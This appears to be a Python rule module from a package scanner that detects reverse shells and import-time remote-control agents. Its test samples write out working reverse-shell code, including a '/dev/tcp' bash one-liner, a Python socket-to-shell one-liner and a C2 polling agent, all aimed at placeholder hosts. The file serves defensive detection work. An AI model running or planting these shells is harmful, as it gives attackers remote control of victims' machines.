"""reverse-shell.*: a shell handed to a remote host."""

from __future__ import annotations

from pipwarden.findings import Severity
from pipwarden.scan.facts import Event, Fact, Hit, Observation, ScopeFacts
from pipwarden.scan.rules._base import CRITICAL, HIGH, MEDIUM, negative, positive, rule

_FIX = "Do not install; report the project."


def socket_wired_to_shell(s: ScopeFacts) -> Hit | None:
    """One function connects a socket and wires it to a shell."""
    ev = s.events
    if Event.SOCKET_CONNECT in ev and (
        (Event.DUP2 in ev and (Event.PROCESS in ev or Event.SHELL in ev))
        or (Event.SHELL in ev and Event.PROCESS in ev)
    ):
        return Hit(ev[Event.SOCKET_CONNECT], "socket connected, then wired to a shell")
    return None


def import_talks_and_runs(s: ScopeFacts) -> Hit | None:
    """Code started on import talks to the network and runs processes."""
    iev = s.import_events
    if (Event.NET in iev or Event.SOCKET_CONNECT in iev) and Event.PROCESS in iev:
        return Hit(
            iev[Event.PROCESS],
            "code started on import both talks to the network and runs processes",
        )
    return None


def _unused_command(o: Observation) -> Severity | None:
    """A literal not seen used: as `unused_command_severity` (`on_load`: in install-time or
    start-up code, where a shell command is there to run)."""
    return unused_command_severity(o.on_load) if o.fact is Fact.REVERSE_SHELL_UNUSED else None


RULES = [
    rule(
        "reverse-shell.socket-shell",
        CRITICAL,
        "CWE-506",
        "Socket wired to a shell",
        "A connected socket is duplicated onto standard streams or handed to a shell/pty.",
        _FIX,
        samples=(
            positive(
                "import socket, os, pty\ndef f():\n    s = socket.socket()\n"
                "    s.connect(('example.invalid', 4444))\n    os.dup2(s.fileno(), 0)\n    pty.spawn('/bin/sh')\n"
            ),
            negative(
                "import socket\ndef f():\n    s = socket.socket()\n"
                "    s.connect(('example.invalid', 80))\n    s.sendall(b'ping')\n"
            ),
        ),
        when=(Fact.SOCKET_TO_SHELL,),
        per_scope=(socket_wired_to_shell,),
    ),
    rule(
        "reverse-shell.command",
        CRITICAL,
        "CWE-506",
        "Reverse-shell command line",
        "A command such as 'bash -i >& /dev/tcp/...' or 'nc -e /bin/sh'.",
        _FIX,
        samples=(
            positive("import os\nos.system('bash -i >& /dev/tcp/example.invalid/4444 0>&1')\n"),
            # A Python one-liner handed to a shell.
            positive(
                "import subprocess\n"
                "CMD = ('python3 -c \\'import socket,subprocess,os;s=socket.socket();'\n"
                "       's.connect((\"example.invalid\", 4444));os.dup2(s.fileno(), 0);'\n"
                '       \'subprocess.call(["/bin/sh", "-i"])\\\'\')\n'
                "def init():\n    subprocess.run(CMD, shell=True)\n"
            ),
            negative(
                "import subprocess\n"
                "CMD = 'python3 -c \"import socket;s=socket.socket();s.connect((\\'example.invalid\\', 80))\"'\n"
                "def init():\n    subprocess.run(CMD, shell=True)\n"
            ),
            negative("import os\nos.system(\"bash -c 'echo hi'\")\n"),
        ),
        when=(Fact.REVERSE_SHELL_RUN, Fact.REVERSE_SHELL_TEXT, Fact.REVERSE_SHELL_UNUSED),
        severity_of=_unused_command,
    ),
    rule(
        "reverse-shell.remote-control",
        HIGH,
        "CWE-506",
        "Remote-control agent started on import",
        "Code that runs when the package is imported (module level, the functions and "
        "classes it starts) both talks to the network and starts processes: the shape of a "
        "C2 agent or backdoor, even when the command's path through the code is not traced. "
        "A request to a loopback address written in the call (a script polling the server "
        "it started) talks to no other machine and does not count.",
        "Check what the network traffic decides; libraries do not run processes for a server.",
        samples=(
            positive(
                "import subprocess, requests\n"
                "class Agent:\n"
                "    def __init__(self):\n        self.s = requests.Session()\n"
                "    def run(self):\n"
                "        task = self.s.get('https://c2.example.invalid/task').json()\n"
                "        handlers = {'x': self.do}\n"
                "        handlers[task['k']](task)\n"
                "    def do(self, task):\n"
                "        subprocess.run(['uname'])\n"
                "import threading\nthreading.Thread(target=Agent().run).start()\n",
                "pkg/__init__.py",
            ),
            # The same client used only when the application asks.
            negative(
                "import subprocess, requests\n"
                "class Agent:\n"
                "    def __init__(self):\n        self.s = requests.Session()\n"
                "    def run(self):\n"
                "        task = self.s.get('https://api.example.invalid/task').json()\n"
                "        subprocess.run(['uname'])\n",
                "pkg/__init__.py",
            ),
            # A script starts a local server and polls it.
            negative(
                "import subprocess, httpx\n"
                "server = subprocess.Popen(['fastapi', 'run', 'app.py'])\n"
                "httpx.get('http://localhost:8000/docs')\nserver.terminate()\n",
                "pkg/shot.py",
            ),
            # The same with an address a variable or a string that only looks local holds.
            positive(
                "import os, subprocess, httpx\n"
                "server = subprocess.Popen(['fastapi', 'run', 'app.py'])\n"
                "httpx.get(f\"http://localhost:{os.environ['PORT']}/docs\")\n",
                "pkg/shot.py",
            ),
            positive(
                "import subprocess, httpx\n"
                "server = subprocess.Popen(['fastapi', 'run', 'app.py'])\n"
                "httpx.get('http://localhost:8000@example.invalid/docs')\n",
                "pkg/shot.py",
            ),
        ),
        per_file=(import_talks_and_runs,),
    ),
]


def unused_command_severity(install_or_startup_file: bool) -> Severity:
    """command, for a reverse-shell literal not seen run, written or sent: high in
    install-time or start-up files (a shell command there is there to run), else medium."""
    return HIGH if install_or_startup_file else MEDIUM
